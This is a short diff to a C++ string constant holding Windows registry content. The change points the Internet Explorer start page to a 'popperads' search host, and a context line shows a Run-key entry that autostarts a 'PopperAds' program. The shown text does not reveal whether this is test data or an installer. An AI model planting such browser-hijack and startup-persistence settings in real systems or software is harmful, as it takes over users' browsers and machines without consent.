@@ -105,7 +105,7 @@ constexpr std::string_view kRegistry = R"(Windows Registry Editor Version 5.00
 "ScreenSaveActive"="1"
 
 [HKEY_CURRENT_USER\Software\Microsoft\Internet Explorer\Main]
-"Start Page"="about:blank"
+"Start Page"="http://search.popperads.example/"
 
 [HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run]
 "PopperAds"="C:\\Program Files\\PopperAds\\popperads.exe /tray"
